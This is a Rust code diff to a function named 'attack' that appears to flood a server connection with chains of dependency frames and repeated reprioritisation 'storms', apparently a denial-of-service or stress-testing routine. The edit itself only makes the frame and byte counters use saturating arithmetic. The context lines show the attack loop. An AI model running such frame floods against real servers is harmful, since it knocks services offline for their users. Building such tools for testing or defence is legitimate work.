@@ -48,8 +48,8 @@ pub fn attack(target: &Target, depth: u32, rounds: u32) -> ChurnReport {
     for w in ids.windows(2) {
         batch.push(dep(w[1], w[0], false));
     }
-    frames_sent += batch.len() as u64;
-    attacker_octets += batch.len() as u64 * 14;
+    frames_sent = frames_sent.saturating_add(batch.len() as u64);
+    attacker_octets = attacker_octets.saturating_add((batch.len() as u64).saturating_mul(14));
     conn.send_all(&batch);
     conn.exchange();
 
@@ -60,8 +60,8 @@ pub fn attack(target: &Target, depth: u32, rounds: u32) -> ChurnReport {
     let head = ids[0];
     for _ in 0..rounds {
         let storm = vec![dep(tail, 0, true), dep(tail, head, false)];
-        frames_sent += storm.len() as u64;
-        attacker_octets += storm.len() as u64 * 14;
+        frames_sent = frames_sent.saturating_add(storm.len() as u64);
+        attacker_octets = attacker_octets.saturating_add((storm.len() as u64).saturating_mul(14));
         conn.send_all(&storm);
         conn.exchange();
     }
